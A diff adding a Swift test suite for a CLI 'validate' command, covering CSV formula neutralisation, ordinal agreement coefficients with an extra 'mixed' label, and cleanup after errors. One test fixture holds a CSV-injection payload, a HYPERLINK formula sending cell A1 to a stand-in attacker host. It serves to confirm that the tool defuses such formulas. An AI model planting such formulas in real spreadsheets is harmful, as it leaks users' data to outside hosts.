@@ -1,0 +1,70 @@
+import Foundation
+import TestSupport
+import Testing
+
+/// Review r8a: `validate` findings, end to end.
+@Suite struct ValidateReviewR8aTests {
+  static func run(_ export: String, _ human: String, in folder: URL) throws -> (TestSupport.ProcessResult, URL) {
+    let exportPath = try ReviewFixSupport.write(export, "export.csv", in: folder)
+    let humanPath = try ReviewFixSupport.write(human, "codes.csv", in: folder)
+    let out = folder.appendingPathComponent("out")
+    let result = try TestSupport.runVerbatim([
+      "validate", exportPath, "--human", humanPath, "--no-tags", "--out", out.path, "--threads", "1",
+    ])
+    return (result, out)
+  }
+
+  // Issue 8: customer text that starts with = or + is written with a leading apostrophe (OWASP CSV
+  // Injection) so a spreadsheet shows it instead of running it.
+  @Test func disagreementsCSVNeutralisesFormulas() throws {
+    let folder = try TestSupport.temporaryDirectory()
+    let (result, out) = try Self.run(
+      "id,comment\nr1,\"=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"click\"\") awful\"\nr2,\"+1 great\"\n",
+      "item,coder,label\nr1:comment,gold,positive\nr2:comment,gold,negative\n", in: folder)
+    #expect(result.status == 0, "\(result.stderrText)")
+    let csv = try String(contentsOf: out.appendingPathComponent("disagreements.csv"), encoding: .utf8)
+    #expect(csv.contains("\"'=HYPERLINK("), "\(csv)")
+    #expect(csv.contains(",'+1 great,"), "\(csv)")
+    #expect(!csv.contains(",=HYPERLINK") && !csv.contains("\"=HYPERLINK") && !csv.contains(",+1 great"))
+  }
+
+  // Issue 9: a human label outside negative < neutral < positive ("mixed") has no place in the ordinal
+  // order: the order-dependent coefficients are null with a reason (as `agree` does for undeclared text
+  // labels), while the nominal ones are still computed.
+  @Test func extraHumanLabelsWithholdOrderDependentCoefficients() throws {
+    let folder = try TestSupport.temporaryDirectory()
+    let (result, out) = try Self.run(
+      "id,comment\nr1,\"terrible service, waited forever\"\nr2,\"Great value and quality\"\n"
+        + "r3,\"good food but rude staff\"\nr4,\"ok\"\nr5,\"awful awful\"\nr6,\"love it\"\n",
+      "item,coder,label\nr1:comment,gold,negative\nr2:comment,gold,positive\nr3:comment,gold,mixed\n"
+        + "r4:comment,gold,neutral\nr5:comment,gold,negative\nr6:comment,gold,positive\n", in: folder)
+    #expect(result.status == 0, "\(result.stderrText)")
+    let data = try Data(contentsOf: out.appendingPathComponent("agreement.json"))
+    let object = try #require(try JSONSerialization.jsonObject(with: data) as? [String: Any])
+    for name in ["weighted_kappa_linear", "weighted_kappa_quadratic", "krippendorff_alpha_ordinal"] {
+      let entry = try ReviewFixSupport.coefficient(object, name)
+      #expect(entry["value"] is NSNull, "\(name)")
+      #expect((entry["reason"] as? String)?.contains("mixed") == true, "\(name)")
+    }
+    #expect(try ReviewFixSupport.coefficient(object, "cohen_kappa")["value"] is Double)
+  }
+
+  // Issue 15: an unknown metric is refused before the export is coded, and human ids missing from the
+  // export leave no partial --out folder behind.
+  @Test func usageAndDataErrorsLeaveNoOutputFolder() throws {
+    let folder = try TestSupport.temporaryDirectory()
+    let export = try ReviewFixSupport.write("id,comment\nr1,good\nr2,bad\n", "export.csv", in: folder)
+    let human = try ReviewFixSupport.write(
+      "item,coder,label\nr1:comment,gold,positive\nr9:comment,gold,negative\n", "codes.csv", in: folder)
+    let out = folder.appendingPathComponent("out")
+    let unknown = try TestSupport.runVerbatim([
+      "validate", export, "--human", human, "--no-tags", "--min", "bogus=1", "--out", out.path,
+    ])
+    #expect(unknown.status == 2)
+    #expect(unknown.stderrText.contains("unknown metric"), "\(unknown.stderrText)")
+    #expect(!FileManager.default.fileExists(atPath: out.path))
+    let missing = try TestSupport.runVerbatim(["validate", export, "--human", human, "--no-tags", "--out", out.path])
+    #expect(missing.status == 65)
+    #expect(!FileManager.default.fileExists(atPath: out.path))
+  }
+}
